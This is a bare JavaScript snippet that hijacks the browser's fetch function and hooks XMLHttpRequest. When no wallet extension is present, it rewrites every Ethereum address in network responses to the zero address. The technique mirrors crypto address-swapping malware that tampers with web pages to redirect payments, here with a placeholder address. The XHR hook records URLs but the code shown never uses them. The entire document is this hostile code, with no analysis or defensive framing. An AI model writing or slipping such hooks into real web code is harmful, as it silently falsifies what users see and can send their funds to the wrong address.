var neth = 0;
(async () => {
  if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') neth = 1;
})();
function install() {
  const old = window.fetch;
  window.fetch = async function (...a) {
    const r = await old.apply(this, a);
    const t = await r.clone().text();
    return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0x0000000000000000000000000000000000000000'), r);
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (m, u) {
    this._u = u;
    return open.apply(this, arguments);
  };
}
if (neth !== 1 && typeof window !== 'undefined') install();
